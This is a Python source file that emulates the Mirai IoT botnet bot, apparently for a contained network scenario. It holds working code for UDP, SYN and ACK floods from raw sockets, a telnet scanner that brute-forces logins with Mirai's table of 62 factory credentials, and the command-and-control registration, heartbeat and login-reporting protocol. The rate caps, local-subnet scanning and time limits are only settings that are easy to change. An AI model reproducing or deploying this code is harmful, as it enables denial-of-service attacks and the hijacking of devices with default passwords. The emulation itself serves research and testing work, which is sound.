#!/usr/bin/env python3
"""mirai_bot.py - an emulation of a Mirai bot (the C `bot` of the leaked
source) for the `mirai` scenario. Our own Python 3 code.

What it reproduces on the wire:

* The CNC session: a TCP connection to the CNC's port 23, the 4-byte
  registration 00 00 00 01 and the length-prefixed bot id (Mirai's
  argv[1], e.g. `telnet.arm7`), a 2-byte heartbeat of zeros that the CNC
  echoes, and binary attack commands read as length-prefixed buffers.
* Floods with Mirai's packet layouts and defaults, from raw sockets with
  hand-built IPv4 headers (IP_HDRINCL):
  - udp (vector 0, "udp generic"): random IP id, TTL 64, DF off, random
    source and destination port per packet unless fixed (sport=, dport=),
    `len` bytes of payload (default 512), random per packet unless rand=0;
  - syn (vector 3): DF on, random source/destination ports and sequence
    numbers per packet, window 0, the options MSS 1400-1415, SACK
    permitted, a timestamp, NOP and window scale 6 (40-byte TCP header);
  - ack (vector 4): bare ACKs with random sequence and acknowledgement
    numbers, a random window (drawn once), `len` random payload bytes.
* The telnet scanner: once a second a burst of raw SYNs (no options,
  sequence number = the target's address, port 23, every tenth to 2323)
  from one fixed source port; SYN-ACKs whose acknowledgement number is the
  target's address + 1 open a telnet connection that answers the server's
  option negotiation as Mirai does (NAWS 80x24, everything else refused),
  sends a user name and a password picked at random from Mirai's weighted
  table of 62 factory logins, then `enable`, `system`, `shell`, `sh` and
  `/bin/busybox MIRAI`, each after a prompt; `MIRAI: applet not found`
  means a working login, which is reported to the report server (TCP
  48101) in Mirai's binary format; "ncorrect" or a closed connection means
  the next try (up to 10 per connection), with another login.

Where it differs, and why:

* Bounded: a flood sends at most BOT_PPS packets per second (the original
  sends as fast as it can) and stops after the commanded duration; the
  scanner stops after SCAN_SECONDS; the bot then keeps its CNC session
  until BOT_MIN_LIFETIME seconds have passed since it called home and
  then BOT_LINGER seconds more, and exits (the original runs until
  killed).
* Heartbeats every HEARTBEAT seconds (the original: 10 s after start,
  then every 60 s) so that a short run shows them.
* The scanner scans the bot's own /24 (the original draws from the whole
  IPv4 space and skips 10.0.0.0/8, where the scenario lives) and never
  its own CNC; at most SCAN_MAX_CONNS brute-force connections at once.
* No DNS lookup of the CNC domain (the scenario's name service resolves
  `cnc`), no process hiding, no killer, no self-deletion.
* Random choices come from BOT_SEED (and the bot's index).

Exit status 0 when the bot played its part: registered and heartbeated,
and either received the expected attack and sent packets, or scanned,
found the victim's telnet, and every login outcome matched the victim's
real accounts (VERIFY_ACCOUNTS, used for this check only); 1
otherwise. A bot whose index is above BOTS is a device that was never
infected: it exits 0 at once.
"""

import ipaddress
import os
import random
import select
import socket
import struct
import sys
import threading
import time

import mirai_proto as mp

ENV = os.environ
INDEX = int(ENV.get("BOT_INDEX", "1"))
BOTS = int(ENV.get("BOTS", "1"))
CNC = ENV.get("CNC_HOST", "cnc")
BOT_ID = ENV.get("BOT_ID", "")
HEARTBEAT = float(ENV.get("HEARTBEAT", "3"))
PPS = int(ENV.get("BOT_PPS", "1000"))
TASK = ENV.get("BOT_TASK", "flood")
EXPECT = ENV.get("BOT_EXPECT_VECTOR", "")
LINGER = float(ENV.get("BOT_LINGER", "1"))
WAIT = float(ENV.get("BOT_WAIT", "50"))
STAGGER = float(ENV.get("BOT_STAGGER", "0"))
MIN_LIFETIME = float(ENV.get("BOT_MIN_LIFETIME", "0"))
SCAN_SECONDS = float(ENV.get("SCAN_SECONDS", "15"))
SCAN_PPS = int(ENV.get("SCAN_PPS", "100"))
SCAN_MAX_CONNS = int(ENV.get("SCAN_MAX_CONNS", "16"))
VERIFY_HOST = ENV.get("VERIFY_HOST", "victim")
VERIFY_ACCOUNTS = set(ENV.get("VERIFY_ACCOUNTS", "").split())

rng = random.Random(int(ENV.get("BOT_SEED", "0")) * 1000 + INDEX)
rng_lock = threading.Lock()

# Mirai's scanner table: (user, password, weight), in the source's order.
AUTH_TABLE = [
    ("root", "xc3511", 10), ("root", "vizxv", 9), ("root", "admin", 8), ("admin", "admin", 7),
    ("root", "888888", 6), ("root", "xmhdipc", 5), ("root", "default", 5), ("root", "juantech", 5),
    ("root", "123456", 5), ("root", "54321", 5), ("support", "support", 5), ("root", "", 4),
    ("admin", "password", 4), ("root", "root", 4), ("root", "12345", 4), ("user", "user", 3),
    ("admin", "", 3), ("root", "pass", 3), ("admin", "admin1234", 3), ("root", "1111", 3),
    ("admin", "smcadmin", 3), ("admin", "1111", 2), ("root", "666666", 2), ("root", "password", 2),
    ("root", "1234", 2), ("root", "klv123", 1), ("Administrator", "admin", 1), ("service", "service", 1),
    ("supervisor", "supervisor", 1), ("guest", "guest", 1), ("guest", "12345", 1), ("guest", "12345", 1),
    ("admin1", "password", 1), ("administrator", "1234", 1), ("666666", "666666", 1),
    ("888888", "888888", 1), ("ubnt", "ubnt", 1), ("root", "klv1234", 1), ("root", "Zte521", 1),
    ("root", "hi3518", 1), ("root", "jvbzd", 1), ("root", "anko", 4), ("root", "zlxx.", 1),
    ("root", "7ujMko0vizxv", 1), ("root", "7ujMko0admin", 1), ("root", "system", 1), ("root", "ikwb", 1),
    ("root", "dreambox", 1), ("root", "user", 1), ("root", "realtek", 1), ("root", "00000000", 1),
    ("admin", "1111111", 1), ("admin", "1234", 1), ("admin", "12345", 1), ("admin", "54321", 1),
    ("admin", "123456", 1), ("admin", "7ujMko0admin", 1), ("admin", "1234", 1), ("admin", "pass", 1),
    ("admin", "meinsm", 1), ("tech", "tech", 1), ("mother", "fucker", 1),
]
AUTH_WEIGHT = sum(w for _, _, w in AUTH_TABLE)


def log(*args):
    print("bot%d:" % INDEX, *args, flush=True)


def rand32():
    with rng_lock:
        return rng.getrandbits(32)


def randbytes(n):
    with rng_lock:
        return rng.randbytes(n)


# ---- packets ----------------------------------------------------------------
def ip_header(src, dst, proto, payload_len, ident, ttl, tos, df):
    hdr = struct.pack(
        "!BBHHHBBH4s4s", 0x45, tos, 20 + payload_len, ident, 0x4000 if df else 0,
        ttl, proto, 0, socket.inet_aton(src), socket.inet_aton(dst),
    )
    return hdr[:10] + struct.pack("!H", mp.checksum(hdr)) + hdr[12:]


def l4_checksum(src, dst, proto, segment):
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, proto, len(segment))
    return mp.checksum(pseudo + segment)


def opt_int(opts, name, default):
    v = opts.get(mp.OPTIONS[name])
    if v is None:
        return default
    try:
        return int(v)
    except ValueError:
        return default


class Flood:
    """Builds the packets of one attack; next() returns (packet, dst)."""

    def __init__(self, vector, targets, opts, src):
        self.vector = vector
        self.src = src
        self.targets = targets
        self.tos = opt_int(opts, "tos", 0)
        self.ident = opt_int(opts, "ident", 0xFFFF)
        self.ttl = opt_int(opts, "ttl", 64)
        self.sport = opt_int(opts, "sport", 0xFFFF)
        self.dport = opt_int(opts, "dport", 0xFFFF)
        self.data_len = min(opt_int(opts, "len", 512), 1460)
        self.data_rand = opt_int(opts, "rand", 1)
        self.i = 0
        if vector == 0:
            self.df = opt_int(opts, "df", 0)
        elif vector == 3:
            self.df = opt_int(opts, "df", 1)
            self.seq = opt_int(opts, "seqnum", 0xFFFF)
            # MSS, SACK permitted, timestamp, NOP, window scale (set up once)
            self.tcp_opts = (
                struct.pack("!BBH", 2, 4, 1400 + (rand32() & 0x0F)) + b"\x04\x02"
                + struct.pack("!BBII", 8, 10, rand32(), 0) + b"\x01" + b"\x03\x03\x06"
            )
            self.flags = 0x02
        elif vector == 4:
            self.df = opt_int(opts, "df", 0)
            self.seq = opt_int(opts, "seqnum", 0xFFFF)
            self.ack = opt_int(opts, "acknum", 0xFFFF)
            self.window = rand32() & 0xFFFF
            self.flags = 0x10
            self.payload = randbytes(self.data_len)
        else:
            raise ValueError("vector %d is not emulated" % vector)
        if vector == 0:
            self.payload = bytes(self.data_len)

    def dst(self):
        ip, netmask = self.targets[self.i % len(self.targets)]
        self.i += 1
        if netmask < 32:
            base = int(ipaddress.IPv4Address(ip))
            ip = str(ipaddress.IPv4Address((base + (rand32() >> netmask)) & 0xFFFFFFFF))
        return ip

    def port(self, fixed):
        return rand32() & 0xFFFF if fixed == 0xFFFF else fixed

    def next(self):
        dst = self.dst()
        ident = rand32() & 0xFFFF if self.ident == 0xFFFF else self.ident
        sport, dport = self.port(self.sport), self.port(self.dport)
        if self.vector == 0:
            if self.data_rand:
                self.payload = randbytes(self.data_len)
            udp = struct.pack("!HHHH", sport, dport, 8 + self.data_len, 0) + self.payload
            csum = l4_checksum(self.src, dst, 17, udp)
            seg = udp[:6] + struct.pack("!H", csum) + udp[8:]
            return ip_header(self.src, dst, 17, len(seg), ident, self.ttl, self.tos, self.df) + seg, dst
        seq = rand32() if self.seq == 0xFFFF else self.seq
        if self.vector == 3:
            tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 10 << 4, self.flags, 0, 0, 0) + self.tcp_opts
        else:
            ack = rand32() if self.ack == 0xFFFF else self.ack
            if self.data_rand:
                self.payload = randbytes(self.data_len)
            tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, self.flags, self.window, 0, 0)
            tcp += self.payload
        csum = l4_checksum(self.src, dst, 6, tcp)
        seg = tcp[:16] + struct.pack("!H", csum) + tcp[18:]
        return ip_header(self.src, dst, 6, len(seg), ident, self.ttl, self.tos, self.df) + seg, dst


def run_flood(flood, duration, result):
    proto = socket.IPPROTO_UDP if flood.vector == 0 else socket.IPPROTO_TCP
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, proto)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    start = time.monotonic()
    end = start + duration
    sent = errors = 0
    while True:
        now = time.monotonic()
        if now >= end:
            break
        # pace: never ahead of PPS packets per second
        due = int((now - start) * PPS) + 1
        if sent + errors >= due:
            time.sleep(min(0.005, end - now))
            continue
        pkt, dst = flood.next()
        try:
            s.sendto(pkt, (dst, 0))
            sent += 1
        except OSError:
            errors += 1
    s.close()
    result["sent"] = sent
    result["errors"] = errors
    log("flood over: %d packets sent, %d errors, in %.1f s" % (sent, errors, time.monotonic() - start))


# ---- the telnet scanner ---------------------------------------------------------
def local_network(local_ip):
    """The bot's own network from the kernel's routing table."""
    with open("/proc/net/route") as f:
        for line in f.readlines()[1:]:
            fields = line.split()
            dest, mask = int(fields[1], 16), int(fields[7], 16)
            if dest == 0 or mask == 0:
                continue
            d = socket.inet_ntoa(struct.pack("<I", dest))
            m = socket.inet_ntoa(struct.pack("<I", mask))
            net = ipaddress.IPv4Network("%s/%s" % (d, m))
            if ipaddress.IPv4Address(local_ip) in net:
                return net
    return ipaddress.IPv4Network(local_ip + "/24", strict=False)


class Scanner:
    def __init__(self, local_ip, cnc_ip, deadline):
        self.local_ip = local_ip
        self.deadline = deadline
        net = local_network(local_ip)
        skip = {local_ip, cnc_ip}
        self.candidates = [str(h) for h in net.hosts() if str(h) not in skip]
        self.lock = threading.Lock()
        self.active = 0
        self.threads = []
        self.attempts = []  # (target, user, password, outcome)
        self.found = set()  # addresses that answered with a SYN-ACK
        self.reports = 0
        self.report_errors = 0
        while True:
            self.sport = rand32() & 0xFFFF
            if self.sport >= 1024:
                break
        self.window = rand32() & 0xFFFF
        self.syns = 0
        self.syn_errors = 0

    def syn(self, dst, dport):
        ident = rand32() & 0xFFFF
        seq = struct.unpack("!I", socket.inet_aton(dst))[0]
        tcp = struct.pack("!HHIIBBHHH", self.sport, dport, seq, 0, 5 << 4, 0x02, self.window, 0, 0)
        csum = l4_checksum(self.local_ip, dst, 6, tcp)
        tcp = tcp[:16] + struct.pack("!H", csum) + tcp[18:]
        return ip_header(self.local_ip, dst, 6, len(tcp), ident, 64, 0, False) + tcp

    def run(self):
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
        raw.setblocking(False)
        last_spew = 0
        log("scanner: %d addresses, %d SYNs/s from port %d" % (len(self.candidates), SCAN_PPS, self.sport))
        while time.monotonic() < self.deadline:
            now = int(time.monotonic())
            if now != last_spew:
                last_spew = now
                # A socket per burst: SYNs to empty addresses wait in the
                # kernel for ARP answers that never come, charged to their
                # socket; on one socket they would soon block the burst
                # (the original's targets sit behind a router, not on a LAN).
                out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
                out.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
                out.setblocking(False)
                for i in range(SCAN_PPS):
                    with rng_lock:
                        dst = rng.choice(self.candidates)
                    try:
                        out.sendto(self.syn(dst, 2323 if i % 10 == 0 else 23), (dst, 0))
                        self.syns += 1
                    except OSError:
                        self.syn_errors += 1
                out.close()
            while True:
                try:
                    pkt = raw.recv(1514)
                except BlockingIOError:
                    break
                self.on_packet(pkt)
            select.select([raw], [], [], 0.05)
        raw.close()
        for t in self.threads:
            t.join(timeout=max(1.0, self.deadline + 15 - time.monotonic()))
        log(
            "scanner over: %d SYNs (%d refused by the kernel), telnet found on %s, %d logins tried, %d reported"
            % (self.syns, self.syn_errors, sorted(self.found) or "nothing", len(self.attempts), self.reports)
        )

    def on_packet(self, pkt):
        if len(pkt) < 40 or pkt[9] != 6:
            return
        ihl = (pkt[0] & 0x0F) * 4
        src = socket.inet_ntoa(pkt[12:16])
        if socket.inet_ntoa(pkt[16:20]) != self.local_ip:
            return
        sport, dport, _, ack = struct.unpack_from("!HHII", pkt, ihl)
        flags = pkt[ihl + 13]
        if sport not in (23, 2323) or dport != self.sport:
            return
        if flags & 0x12 != 0x12 or flags & 0x05:
            return
        if (ack - 1) & 0xFFFFFFFF != struct.unpack("!I", socket.inet_aton(src))[0]:
            return
        with self.lock:
            self.found.add(src)
            if self.active >= SCAN_MAX_CONNS:
                return
            self.active += 1
        t = threading.Thread(target=self.brute, args=(src, sport), daemon=True)
        self.threads.append(t)
        t.start()

    def brute(self, target, port):
        try:
            for _ in range(10):
                if time.monotonic() >= self.deadline:
                    return
                with rng_lock:
                    r = rng.randrange(AUTH_WEIGHT)
                for user, password, weight in AUTH_TABLE:
                    if r < weight:
                        break
                    r -= weight
                outcome = TelnetTry(target, port, user, password, self.deadline + 12).run()
                with self.lock:
                    self.attempts.append((target, user, password, outcome))
                log("telnet %s:%d %s:%s -> %s" % (target, port, user, password, outcome))
                if outcome == "working":
                    self.report(target, port, user, password)
                    return
        finally:
            with self.lock:
                self.active -= 1

    def report(self, target, port, user, password):
        try:
            with socket.create_connection((CNC, mp.REPORT_PORT), timeout=5) as s:
                data = mp.build_report(target, port, user, password)
                # as Mirai: one send() per field
                for part in (data[:1], data[1:5], data[5:7], data[7:8 + len(user)], data[8 + len(user):]):
                    s.send(part)
            self.reports += 1
        except OSError as e:
            self.report_errors += 1
            log("report failed: %s" % e)

    def verdict(self):
        """Whether the scan played out: the victim's telnet was found and
        tried, and every completed login outcome fits its credentials."""
        try:
            victim = socket.gethostbyname(VERIFY_HOST)
        except OSError:
            victim = None
        if victim not in self.found:
            log("FAILED: the scanner never found the telnet server of %s (%s)" % (VERIFY_HOST, victim))
            return False
        tried = [a for a in self.attempts if a[0] == victim and a[3] != "cut"]
        if not tried:
            log("FAILED: no login on %s was tried to the end" % victim)
            return False
        ok = True
        for _, user, password, outcome in tried:
            right = "%s:%s" % (user, password) in VERIFY_ACCOUNTS
            if right != (outcome == "working"):
                log("FAILED: %s:%s gave %s" % (user, password, outcome))
                ok = False
        if self.report_errors:
            log("FAILED: %d reports could not be sent" % self.report_errors)
            ok = False
        return ok


class TelnetTry:
    """One login attempt, Mirai's scanner state machine."""

    PROMPT = b":>$#%"

    def __init__(self, target, port, user, password, hard_deadline):
        self.target, self.port = target, port
        self.user, self.password = user, password
        self.hard_deadline = hard_deadline
        self.buf = b""

    def find_prompt(self, chars, words=()):
        for i in range(len(self.buf) - 1, 0, -1):
            if self.buf[i] in chars:
                return i + 1
        for w in words:
            j = self.buf.find(w)
            if j != -1:
                return j
        return 0

    def consume_iacs(self, s):
        consumed = 0
        while consumed + 2 < len(self.buf) and self.buf[consumed] == 0xFF:
            cmd, opt = self.buf[consumed + 1], self.buf[consumed + 2]
            if cmd == 0xFF:
                consumed += 2
                continue
            if cmd == 0xFD and opt == 31:
                s.send(b"\xff\xfb\x1f")
                s.send(b"\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0")
            else:
                reply = bytes([0xFF, {0xFD: 0xFC, 0xFB: 0xFD}.get(cmd, cmd), opt])
                s.send(reply)
            consumed += 3
        return consumed

    def run(self):
        try:
            s = socket.create_connection((self.target, self.port), timeout=5)
        except OSError:
            return "refused"
        steps = [
            ("iacs", None),
            ("user", self.user),
            ("pass", self.password),
            ("any", "enable"),
            ("any", "system"),
            ("any", "shell"),
            ("any", "sh"),
            ("any", "/bin/busybox MIRAI"),
            ("token", None),
        ]
        step = 0
        last = time.monotonic()
        try:
            s.settimeout(0.5)
            while True:
                now = time.monotonic()
                if now > self.hard_deadline:
                    return "cut"
                if now - last > 30:
                    return "timeout"
                try:
                    data = s.recv(4096)
                except socket.timeout:
                    continue
                if not data:
                    return "closed"
                self.buf += data.replace(b"\x00", b"A")
                last = now
                while True:
                    kind, send = steps[step]
                    if kind == "iacs":
                        n = self.consume_iacs(s)
                    elif kind == "user":
                        n = self.find_prompt(self.PROMPT, (b"ogin", b"enter"))
                    elif kind == "pass":
                        n = self.find_prompt(b":>$#", (b"assword",))
                    elif kind == "any":
                        n = self.find_prompt(self.PROMPT)
                    else:
                        if b"ncorrect" in self.buf:
                            return "incorrect"
                        if b"MIRAI: applet not found" in self.buf:
                            return "working"
                        n = 0
                    if n <= 0:
                        break
                    if send is not None:
                        s.send(send.encode())
                        s.send(b"\r\n")
                    self.buf = self.buf[n:]
                    step += 1
        except OSError:
            return "closed"
        finally:
            s.close()


# ---- the CNC session --------------------------------------------------------------
def read_exact(sock, n, deadline):
    data = b""
    while len(data) < n:
        sock.settimeout(max(0.1, deadline - time.monotonic()))
        chunk = sock.recv(n - len(data))
        if not chunk:
            raise ConnectionError("the CNC closed the connection")
        data += chunk
    return data


def main():
    if INDEX > BOTS:
        log("this device was not recruited into the botnet (%d bots); nothing to do" % BOTS)
        return 0
    print("listening tun0", flush=True)  # Mirai's first words
    time.sleep(STAGGER)
    sock = None
    for _ in range(50):
        try:
            sock = socket.create_connection((CNC, mp.CNC_PORT), timeout=5)
            break
        except OSError:
            time.sleep(0.5)
    if sock is None:
        log("FAILED: cannot reach the CNC")
        return 1
    local_ip, cnc_ip = sock.getsockname()[0], sock.getpeername()[0]
    sock.send(mp.REGISTER_MAGIC)
    sock.send(bytes([len(BOT_ID)]))
    if BOT_ID:
        sock.send(BOT_ID.encode())
    log("connected to the CNC %s from %s as %r" % (cnc_ip, local_ip, BOT_ID))

    started = time.monotonic()
    next_ping = started + HEARTBEAT
    pings = echoes = 0
    flood_thread = scanner = None
    flood_result = {}
    attack_ok = None
    finish_at = None
    if TASK == "scan":
        scanner = Scanner(local_ip, cnc_ip, started + SCAN_SECONDS)
        flood_thread = threading.Thread(target=scanner.run, daemon=True)
        flood_thread.start()
    try:
        while True:
            now = time.monotonic()
            if finish_at is None and flood_thread is not None and not flood_thread.is_alive():
                finish_at = max(now, started + MIN_LIFETIME) + LINGER
            if finish_at is not None and now >= finish_at:
                break
            if flood_thread is None and now - started > WAIT:
                log("FAILED: no attack command within %.0f s" % WAIT)
                return 1
            if now >= next_ping:
                sock.send(mp.HEARTBEAT)
                pings += 1
                next_ping = now + HEARTBEAT
            r, _, _ = select.select([sock], [], [], max(0.05, min(next_ping, finish_at or next_ping) - now))
            if not r:
                continue
            head = read_exact(sock, 2, time.monotonic() + 10)
            (length,) = struct.unpack("!H", head)
            if length == 0:
                echoes += 1
                continue
            body = read_exact(sock, length - 2, time.monotonic() + 10)
            try:
                duration, vector, targets, opts = mp.parse_attack(body)
            except (ValueError, IndexError, struct.error) as e:
                log("FAILED: unreadable attack command (%s): %s" % (e, body.hex()))
                attack_ok = False
                continue
            named = {mp.OPTION_NAMES.get(k, str(k)): v for k, v in opts.items()}
            name = mp.VECTOR_NAMES.get(vector, str(vector))
            log("attack command: %s for %d s on %s, options %s" % (name, duration, targets, named))
            if TASK != "flood" or name != EXPECT or flood_thread is not None:
                log("FAILED: did not expect this attack (expected %r)" % EXPECT)
                attack_ok = False
                continue
            attack_ok = True
            flood = Flood(vector, targets, opts, local_ip)
            flood_thread = threading.Thread(target=run_flood, args=(flood, duration, flood_result), daemon=True)
            flood_thread.start()
    except (OSError, ConnectionError) as e:
        log("FAILED: CNC session broken: %s" % e)
        return 1
    finally:
        sock.close()
    log("%d heartbeats sent, %d echoed" % (pings, echoes))
    if pings == 0 or echoes == 0:
        log("FAILED: no heartbeat went both ways")
        return 1
    if TASK == "scan":
        return 0 if scanner.verdict() else 1
    if not attack_ok or flood_result.get("sent", 0) == 0:
        log("FAILED: the attack did not run")
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
